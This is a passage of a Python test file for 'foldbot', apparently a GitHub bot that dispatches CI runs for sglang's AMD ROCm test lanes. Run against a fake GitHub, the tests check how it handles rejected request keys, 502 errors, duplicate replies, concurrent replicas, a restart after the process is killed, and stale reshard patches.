              '"sgl-kernel-unit-test-amd-rocm720"]\n')
    assert _STRING_STAGE in text
    world.repo.put_files("main", {ROCM720: text.replace(_STRING_STAGE, choice)}, message="a choice")
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, f"/dispatch rocm720 {jobs}", "writer")
    assert fake_github.dispatches == [] and fake_github.count("POST", r"/dispatches$") == 0
    assert said in replies(fake_github, world, number)[-1].body
    await say(bot, world, number, "/dispatch rocm720 sgl-kernel-unit-test-amd-rocm720", "writer")
    assert [d.inputs["target_stage"] for d in fake_github.dispatches] == ["sgl-kernel-unit-test-amd-rocm720"]


async def test_a_server_that_does_not_take_return_run_details_is_asked_without_it(fake_github: FakeGitHub,
                                                                                   bot: Bot) -> None:
    """review84 F01: GitHub Enterprise Server 3.19 answers 422 '"return_run_details" is not a permitted
    key.' (it starts nothing): every `/dispatch` was refused. foldbot asks again without it, once, and
    from then on leaves it out (the run found by its title)."""
    world = sglang_world(fake_github, runs=1)
    numbers = [pr_with_lane_run(world, number=n)[0] for n in (50001, 50002)]
    fake_github.set_permission(world.repo, "writer", "write")
    fake_github.dispatch_takes_run_details = False
    for number in numbers:
        await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    assert [d.ref for d in fake_github.dispatches] == ["amd/change-50001", "amd/change-50002"]
    posts = [r.status for r in fake_github.requests if r.method == "POST" and r.path.endswith("/dispatches")]
    assert posts == [422, 204, 204]
    for number, dispatch in zip(numbers, fake_github.dispatches):
        (reply,) = replies(fake_github, world, number)
        assert f": [run {dispatch.run_id}](" in reply.body


async def test_a_dispatch_answered_502_and_listed_seconds_later_is_found_not_sent_twice(
        fake_github: FakeGitHub, bot: Bot) -> None:
    """review84 F03: GitHub carried the dispatch out, answered 502, and listed its run 6 s later (it
    answers 204 without `return_run_details` and creates the run after). foldbot looked for 4 s,
    said nothing was started, and the command commented again started a second GPU run. It looks
    as long as GitHub may take (IN_FLIGHT_SECONDS + LISTED_SECONDS)."""
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    fake_github.dispatch_returns_run_details = False
    fake_github.dispatch_listing_lag = 6.0
    fake_github.fail_after(1, 502, method="POST", path=r"/dispatches$")
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    (reply,) = replies(fake_github, world, number)
    assert f": [run {dispatch.run_id}](" in reply.body and "started nothing" not in reply.body


async def test_a_dispatch_github_refused_with_a_502_before_doing_it_says_so_and_starts_nothing(
        fake_github: FakeGitHub, bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    """A 502 and no run appears while a dispatch GitHub carried out would be listed: nothing started,
    most likely; the reply says to look, then comment the command again."""
    import handlers.dispatch

    monkeypatch.setattr(handlers.dispatch, "IN_FLIGHT_SECONDS", 0.2)
    monkeypatch.setattr(handlers.dispatch, "LISTED_SECONDS", 0.3)
    monkeypatch.setattr(handlers.dispatch, "LOOK_EVERY_SECONDS", 0.1)
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    fake_github.fail_next(1, 502, method="POST", path=r"/dispatches$")
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    assert fake_github.dispatches == []
    (reply,) = replies(fake_github, world, number)
    assert (f"GitHub did not answer the dispatch (502), and no run titled `[stage-a-test-1-gpu-small-amd-rocm720] {sha}` "
            "appeared in the 0.5 s since (GitHub lists a dispatch it carried out within them): it most likely started "
            "nothing. See the lane's runs in the Actions tab, then comment the command again.") in reply.body


@pytest.mark.parametrize("times", [1, 2])
async def test_a_reply_github_created_but_answered_502_is_not_left_twice(fake_github: FakeGitHub, bot: Bot,
                                                                         times: int) -> None:
    """The pending reply is created, GitHub answers 502, foldbot's retry creates another (and,
    answered 502 again, a third): one reply stays, with the outcome, none left pending."""
    world = sglang_world(fake_github, runs=1)
    number = world.runs[-1]["pull_requests"][0]["number"]
    fake_github.fail_after(times, 502, method="POST", path=rf"/issues/{number}/comments$")
    await say(bot, world, number, "/fold help", "passer-by")
    (reply,) = replies(fake_github, world, number)
    assert "foldbot's commands on a pull request" in reply.body and read_state(reply.body)["pending"] is False
    assert fake_github.count("POST", rf"/issues/{number}/comments$") == times + 1


async def test_a_comment_another_foldbot_answers_at_the_same_moment_is_answered_once(
        fake_github: FakeGitHub, bot: Bot) -> None:
    """Two replicas take the same comment (two deliveries of it) at once: each writes its
    pending reply, sees the other's older one; the younger stops and removes its own."""
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    payload = comment_payload(world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    fake_github.meet(2, method="POST", path=rf"/issues/{number}/comments$")  # both write their reply together
    other, runner = await start_bot(fake_github)
    try:
        answers = await asyncio.gather(bot.deliver("issue_comment", payload, delivery="one"),
                                       other.deliver("issue_comment", payload, delivery="two"))
        assert [status for status, _ in answers] == [202, 202]
        await asyncio.gather(bot.settle(), other.settle())
    finally:
        await other.session.close()
        await runner.cleanup()
    assert not fake_github.broken_meetings
    assert len(fake_github.dispatches) == 1
    (reply,) = replies(fake_github, world, number)
    assert "Dispatched `" in reply.body and "foldbot:writer" not in reply.body


async def test_an_approval_whose_branch_github_made_but_answered_502_goes_on(fake_github: FakeGitHub,
                                                                              bot: Bot) -> None:
    """GitHub creates the branch and answers 502; the retry is refused (422: it exists). It is
    foldbot's own (the same tree): the approval goes on to open the pull request, once."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    fake_github.fail_after(1, 502, method="POST", path=r"/git/refs$")
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert f"Opened https://github.com/sgl-project/sglang/pull/{pull.number}" in replies(fake_github, world, number)[0].body
    assert [r.status for r in fake_github.requests if r.method == "POST" and r.path.endswith("/git/refs")] == [502, 422]


async def test_a_dispatch_the_killed_process_sent_that_lands_after_the_restart_is_found_not_sent_again(
        fake_github: FakeGitHub, tmp_path: Path) -> None:
    """`foldbot serve` is killed -9 while its dispatch call is on its way (GitHub carries it out
    6 s later); the restart resumes at once. It waits for what the stopped process sent to land
    (GitHub ends a request after 10 s) before it looks for the run: it finds it, one GPU run.
    (An operator probe got two: the restart looked, found nothing, and dispatched.)"""
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    payload = comment_payload(world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    port = free_port()
    fake_github.set_latency(6, method="POST", path=r"/dispatches$")
    first = await serve_process(fake_github, tmp_path, port)
    await post_comment(port, payload, "late-dispatch")
    await until(lambda: bool(replies(fake_github, world, number)))
    await asyncio.sleep(1)  # (the dispatch call is on its way)
    os.killpg(first.pid, signal.SIGKILL)
    killed = time.monotonic()
    await asyncio.wait_for(first.wait(), 30)
    assert fake_github.dispatches == []
    fake_github.set_latency(0, method="POST", path=r"/dispatches$")
    await restart_and_finish_the_reply(fake_github, world, number, tmp_path, port)
    await asyncio.sleep(max(0.0, killed + 7 - time.monotonic()))  # (the killed call has landed by now)
    (dispatch,) = fake_github.dispatches
    (reply,) = replies(fake_github, world, number)
    assert f"[run {dispatch.run_id}](" in reply.body and read_state(reply.body)["commands"][0]["run_id"] == dispatch.run_id


async def test_a_reshard_resting_on_a_called_file_is_not_committed_after_that_file_changed(
        fake_github: FakeGitHub, bot: Bot) -> None:
    """review110 f06: the report's state kept the lane files' blobs only; a caller's reshard rests on the reusable
    workflow it calls too (whether the count reaches a flag, the shards' timeout). Approved after that file changed
    on main (its test step now allows 30 minutes: 7 shards no longer fit), the stale 7-shard patch was committed."""
    from tests.sglang_current import STAGE_PATH, STAGE_TEXT

    world, _ = current_world(fake_github, config="logs: {max_jobs: 200}\n", staged=True)
    fake_github.set_permission(world.repo, "lead", "maintain")
    await bot.deliver("workflow_run", world.payload(world.runs[-1]["id"]))
    await bot.settle()
    board = dashboard_issue(world)
    assert STAGE_PATH in read_state(board.body)["blobs"]
    line = next(x for x in board.body.splitlines() if x.startswith("- **Reshard** `stage-b-test-1-gpu-small-amd-rocm720`"))
    reshard_id = line.rsplit("/fold approve ", 1)[1].split("`")[0]
    world.repo.put_files("main", {STAGE_PATH: STAGE_TEXT.replace("timeout-minutes: ${{ inputs.run_timeout_minutes }}",
                                                                 "timeout-minutes: 30")})
    assert (await bot.deliver("issue_comment", dashboard_comment(world, f"/fold approve {reshard_id}", "lead")))[0] == 202
    await bot.settle()
    assert [p for p in world.repo.pulls.values() if p.head_ref.startswith("foldbot/")] == []
    reply = [c for c in fake_github.comments_on(world.repo, board.number) if c.user == LOGIN][-1].body
    assert reply.startswith(f"> /fold approve {reshard_id}\n\nThe lane files (or a workflow they call) changed on "
                            "`main` since this report; nothing was committed. The report of the lane's next run holds "
                            "the patch for them: approve that one.")
